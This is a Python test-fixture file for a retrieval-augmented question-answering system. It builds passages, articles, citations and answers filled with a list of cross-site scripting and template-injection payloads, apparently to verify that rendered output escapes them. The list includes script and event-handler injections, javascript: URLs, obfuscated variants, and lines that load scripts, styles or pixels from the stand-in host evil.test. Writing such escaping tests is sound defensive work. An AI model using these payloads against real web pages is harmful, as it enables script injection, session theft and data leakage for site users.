"""Markup that must never act: each payload would set `window.__xss` or call out if it were not escaped."""

from __future__ import annotations

from datetime import date

from rag.types import Answer, Article, Citation, Filters, Noise, Passage, Provenance, Settings, Short, Side, Timings

PAYLOADS = (
    "<script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=window.__xss=1>",
    "<img src=https://evil.test/pixel.png>",
    '"><img src=x onerror=window.__xss=1>',
    "'><svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "<iframe src=javascript:window.top.__xss=1></iframe>",
    "<object data=https://evil.test/o></object>",
    "<embed src=https://evil.test/e>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>x</details>",
    "<body onload=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<math><mtext></table></math><img src=x onerror=window.__xss=1>",
    "<style>@import 'https://evil.test/a.css';</style>",
    "<style>body{background:url(https://evil.test/b.png)}</style>",
    "<link rel=stylesheet href=https://evil.test/c.css>",
    "<link rel=prefetch href=https://evil.test/p>",
    '<meta http-equiv=refresh content="0;url=https://evil.test/">',
    "<base href=https://evil.test/>",
    "<form action=https://evil.test/><button autofocus>go</button></form>",
    "<a href=javascript:window.__xss=1>click</a>",
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1//https://example.com",
    "java\tscript:window.__xss=1",
    "\x01javascript:window.__xss=1",
    "data:text/html,<script>window.__xss=1</script>",
    "vbscript:window.__xss=1",
    'https://evil.test/" onmouseover="window.__xss=1" style="position:fixed;inset:0',
    "https://evil.test/'onfocus='window.__xss=1'autofocus='",
    "//evil.test/x",
    "![pixel](https://evil.test/m.png)",
    "[click](javascript:window.__xss=1)",
    "${window.__xss=1}",
    "`+(window.__xss=1)+`",
    "{{constructor.constructor('window.__xss=1')()}}",
    "{{{value}}} @children {{#with this}}{{lookup . 'constructor'}}{{/with}}",
    "<%= window.__xss=1 %>",
    "$$\\href{javascript:window.__xss=1}{x}$$",
    "<template><script>window.__xss=1</script></template>",
    "<gradio-app src=https://evil.test/></gradio-app>",
    "<noscript><p title='</noscript><img src=x onerror=window.__xss=1>'>",
    "<!--><img src=x onerror=window.__xss=1>-->",
    "<![CDATA[><img src=x onerror=window.__xss=1>]]>",
    "&lt;img src=x onerror=window.__xss=1&gt; &#60;script&#62;window.__xss=1&#60;/script&#62;",
    "\u202e>1=ssx__.wodniw=rorreno x=crs gmi<\u202c \u2066\u2069",
    "\ufeff<\u0000img src=x onerror=window.__xss=1>",
    "＜img src=x onerror=window.__xss=1＞ \ud83d broken",
)


def poisoned_passage(payload: str, ident: str = "p", score: float = 0.5) -> Passage:
    text = f"Before {payload} after.\n{payload}"
    noise = (Noise(3, 6 + len(payload), "title"),)
    return Passage(
        f"{ident}{payload}",
        payload,
        payload,
        payload,
        date(2024, 8, 2),
        0,
        len(text),
        text,
        score,
        0.5,
        1.0,
        noise,
    )


def poisoned_article(payload: str) -> Article:
    return Article(f"a{payload}", payload, f"It said {payload} again.", payload, payload, None)


def poisoned_answer(payload: str, *, answered: bool, question: str | None = None, differ: bool = False) -> Answer:
    """An answer with `payload` in every field that holds text; the short answer begins and ends inside markup.

    With `differ` the sources differ, and each side says it.
    """
    first, other = poisoned_passage(payload), poisoned_passage(payload, "q")
    quote = first.text[7 : 7 + len(payload)]
    held = Citation(1, first.article_id, payload, payload, payload, first.published, 7, 7 + len(payload), quote)
    loose = Citation(2, payload, payload, payload, payload, None, 0, len(payload), payload)
    made = Provenance(payload, 1, payload, payload, Settings(), Filters(), payload, payload)
    within = Short(payload[1:-1], held.article_id, held.start + 1, held.end - 1, 1)
    whole = Short(payload, loose.article_id, loose.start, loose.end, 2)
    return Answer(
        question if question is not None else payload,
        answered,
        payload,
        0.9,
        (held, loose) if answered else (),
        (first, other),
        Timings(total=1.0),
        made,
        None if answered else payload,
        short=within if answered else None,
        sides=(Side(within, (1,), held.published), Side(whole, (2,), None)) if answered and differ else (),
    )
